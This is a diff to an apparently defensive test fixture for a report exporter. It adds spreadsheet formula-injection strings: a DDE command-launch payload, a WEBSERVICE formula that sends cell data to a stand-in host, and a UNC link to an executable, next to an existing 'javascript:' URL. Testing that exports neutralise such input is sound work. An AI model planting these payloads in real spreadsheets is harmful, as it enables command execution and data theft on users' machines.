@@ -33,6 +33,11 @@ LATEX = "$x^2$"
 ARROW = "a -> b"
 URL = "https://evil.example/x"
 FORMULA = "=1+1"
+# Text that looks like the formulas the reader refuses in cells (issue 27): as text it is kept, and neutralised in
+# every export.
+DDE_TEXT = "=cmd|' /C calc'!A0"
+WEBSERVICE_TEXT = '=WEBSERVICE("http://x.invalid/?"&A1)'
+UNC_TEXT = '=HYPERLINK("file://\\\\host\\share\\a.exe","打开")'
 TEMPLATE = "%{x}"
 ENTITY = "&lt;b&gt;"
 PLOTLY_HTML = "<b>加粗</b><br>换行"
@@ -64,7 +69,7 @@ RECOMMENDATION_CATEGORIES = {1: f"{IMG}建议", 2: f"{BOLD}{LONG}", 3: TEMPLATE}
 RECOMMENDATION_TEXTS = (MD_LINK, SCRIPT, MD_IMAGE, LONG, FORMULA, TEMPLATE, ANCHOR, HEADING, EMOJI)
 ACHIEVEMENT_AREAS = {1: MD_LINK, 2: f"{SCRIPT}成效", 3: LONG}
 ACHIEVEMENT_TEXTS = (IMG, f"{BOLD}成效", LONG, LIST, f"{ENTITY} {URL}")
-TASKS = (SCRIPT, MD_LINK, LONG, f"{IMG}整改", FORMULA, TEMPLATE)
+TASKS = (SCRIPT, MD_LINK, LONG, f"{IMG}整改", FORMULA, TEMPLATE, DDE_TEXT, WEBSERVICE_TEXT, UNC_TEXT)
 NOTES = (f"{SCRIPT}\n{MD_LINK}", f"{BOLD}\n{HEADING}", FORMULA, LONG)
 EVIDENCE = (MD_LINK, "javascript:window.__pwned=1", URL, IMG)
 # 一级 A, B (radar, dimension bars); leaves with the largest deductions (the 指标扣分 chart) and others.
